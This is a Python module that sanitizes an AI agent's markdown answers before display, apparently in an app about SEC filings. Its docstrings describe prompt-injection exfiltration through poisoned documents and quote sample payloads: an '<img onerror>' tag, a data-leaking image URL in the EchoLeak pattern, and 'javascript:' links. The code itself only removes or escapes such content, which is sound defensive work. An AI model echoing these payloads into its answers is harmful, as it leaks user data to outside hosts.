"""Make answer text safe to render as markdown (SECURITY.md row 11).

An answer may carry text the model copied from a poisoned document: raw HTML (``<img onerror>``),
images whose URL leaks data on load (``![](https://x/?q=SECRET)``, the EchoLeak pattern), or
``javascript:`` links. Streamlit renders markdown with raw HTML off, but we do not rely on that
alone: every image and every link whose host is not on the allow-list is removed before rendering,
``<`` is escaped so no tag can form, and ``$`` is escaped so amounts are not read as LaTeX. The
result is then parsed again with a real CommonMark parser; if anything active survived (an HTML
token, a disallowed link or image), the caller shows the text as plain text instead.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

# Hosts an answer may link to (official filing sources). Images are never loaded from anywhere:
# the app has no need for remote images, and an image load is an outbound request.
DEFAULT_LINK_HOSTS: tuple[str, ...] = ("www.sec.gov", "sec.gov", "efts.sec.gov")

# Code spans/fences are copied through untouched: nothing inside them is active.
_CODE = re.compile(r"(```.*?(?:```|$)|~~~.*?(?:~~~|$)|(`+)(?!`).*?(?<!`)\2(?!`))", re.DOTALL)
# An inline image or link: optional "!", bracketed text (one nesting level), then a destination.
_INLINE = re.compile(
    r"(?P<bang>!?)\[(?P<text>(?:[^\[\]]|\[[^\[\]]*\])*)\]\((?P<dest>(?:[^()\s]|\([^()]*\))*)"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
# Angle-bracket destinations ``[x](<javascript:...>)`` and autolinks ``<https://...>``.
_ANGLE_INLINE = re.compile(r"(?P<bang>!?)\[(?P<text>[^\[\]]*)\]\(\s*<(?P<dest>[^>]*)>[^)]*\)")
_AUTOLINK = re.compile(r"<(?P<dest>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*)>")
# Reference definitions ``[id]: url`` (links and images that use them are then left dangling).
_REFDEF = re.compile(r"^[ ]{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_REF_IMAGE = re.compile(r"!\[(?P<text>[^\[\]]*)\]\[[^\]]*\]")
# Bare URLs that GitHub-flavoured markdown turns into links by itself.
_BARE_URL = re.compile(r"(?i)\b(?:https?://|ftp://|www\.)[^\s<>()\[\]]+")
_EMAIL = re.compile(r"\b[\w.+-]+@[\w-]+\.[\w.-]+\b")
_CONTROL = re.compile(
    r"[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u200b-\u200f\u202a-\u202e"
    r"\u2060-\u2064\ufeff\U000e0000-\U000e007f]"
)


@dataclass(frozen=True)
class SafeMarkdown:
    """Sanitized markdown and what was taken out of it (shown to the reader as a note)."""

    text: str
    removed: tuple[str, ...] = field(default_factory=tuple)
    inert: bool = True  # False: a second parse still found something active; render as plain text


def link_allowed(url: str, hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> bool:
    """True for an ``https``/``http`` URL whose host is on the allow-list (entities decoded)."""
    url = html.unescape(url).strip()
    url = _CONTROL.sub("", url)
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    if parts.scheme.lower() not in ("http", "https"):
        return False
    host = (parts.hostname or "").lower()
    return host in {h.lower() for h in hosts} and "@" not in parts.netloc


def sanitize_markdown(text: str, *, link_hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> SafeMarkdown:
    """Remove images, disallowed links and raw HTML from ``text``; escape ``<`` and ``$``.

    Args:
        text: markdown written by the agent (possibly echoing document text).
        link_hosts: hosts links may point to; every other link keeps only its text.

    Returns:
        The sanitized markdown, the removed items, and whether a re-parse found it inert.
    """
    hosts = tuple(link_hosts)
    removed: list[str] = []
    text = unicodedata.normalize("NFC", _CONTROL.sub("", text or ""))
    pieces: list[str] = []
    last = 0
    for match in _CODE.finditer(text):
        pieces.append(_clean_prose(text[last : match.start()], hosts, removed))
        pieces.append(match.group(0))
        last = match.end()
    pieces.append(_clean_prose(text[last:], hosts, removed))
    safe = "".join(pieces)
    return SafeMarkdown(safe, tuple(removed), inert=is_inert(safe, hosts))


def _clean_prose(text: str, hosts: tuple[str, ...], removed: list[str]) -> str:
    def image(match: re.Match[str]) -> str:
        removed.append(f"image {match.group('dest')}")
        alt = match.group("text").strip()
        return f"[image removed{': ' + alt if alt else ''}]"

    def link(match: re.Match[str]) -> str:
        if match.group("bang"):
            return image(match)
        dest = match.group("dest")
        if link_allowed(dest, hosts):
            return f"[{match.group('text')}]({dest})"
        removed.append(f"link {dest}")
        return f"{match.group('text')} (link removed)"

    def ref_image(match: re.Match[str]) -> str:
        removed.append("image (reference)")
        alt = match.group("text").strip()
        return f"[image removed{': ' + alt if alt else ''}]"

    def refdef(match: re.Match[str]) -> str:
        removed.append(f"reference {match.group(0).strip()}")
        return ""

    def autolink(match: re.Match[str]) -> str:
        dest = match.group("dest")
        if link_allowed(dest, hosts):
            return f"[{dest}]({dest})"
        removed.append(f"link {dest}")
        return "(link removed)"

    def bare(match: re.Match[str]) -> str:
        url = match.group(0)
        if link_allowed(url, hosts):
            return url
        removed.append(f"link {url}")
        return "(link removed)"

    # Repeat until stable: removing an outer link can expose an inner one ("[[a](x)](y)").
    for _ in range(8):
        before = text
        text = _INLINE.sub(link, _ANGLE_INLINE.sub(link, text))
        if text == before:
            break
    text = _REF_IMAGE.sub(ref_image, text)
    text = _REFDEF.sub(refdef, text)
    text = _AUTOLINK.sub(autolink, text)
    # Split so allowed markdown links are not touched by the bare-URL pass.
    parts = re.split(r"(\[[^\[\]]*\]\([^()\s]*\))", text)
    text = "".join(p if i % 2 else _BARE_URL.sub(bare, p) for i, p in enumerate(parts))
    text = _EMAIL.sub(lambda m: m.group(0).replace("@", " at "), text)
    # No tag can open without "<"; "$" would start LaTeX math in Streamlit's markdown.
    text = text.replace("<", "&lt;")
    return re.sub(r"(?<!\\)\$", r"\\$", text)


def is_inert(markdown: str, hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> bool:
    """True when a CommonMark parse of ``markdown`` finds no HTML, no image, no disallowed link."""
    from markdown_it import MarkdownIt

    hosts = tuple(hosts)
    parser = MarkdownIt("commonmark", {"html": True})
    for token in parser.parse(markdown):
        if token.type in ("html_block", "html_inline"):
            return False
        for child in token.children or ():
            if child.type in ("html_inline", "image"):
                return False
            if child.type == "link_open" and not link_allowed(str(child.attrGet("href")), hosts):
                return False
            if child.type == "text" and any(
                not link_allowed(u.group(0), hosts) for u in _BARE_URL.finditer(child.content)
            ):
                return False
    return True


# Characters that open a link, image, HTML, code, math or table in Streamlit's markdown, and ":"
# (no "https://" autolink); "_" is left alone: at worst it italicises, and names use it a lot.
_MD_SPECIAL = re.compile(r"([\\`\[\]()!<>$*~|:])")
_WWW = re.compile(r"(?i)\b(www)\.")


def escape_markdown(text: str) -> str:
    r"""``text`` as literal characters in any Streamlit markdown context (labels, alerts).

    For short untrusted strings such as document names or error messages: the characters that
    could open a link, image, tag, code span, math or table are backslash-escaped (so
    ``![](https://x)`` shows as typed and ``https\://`` is no longer a URL), ``www.`` cannot
    autolink, and line breaks become spaces.
    """
    text = _CONTROL.sub("", " ".join(str(text).splitlines()))
    return _WWW.sub(r"\1\\.", _MD_SPECIAL.sub(r"\\\1", text))
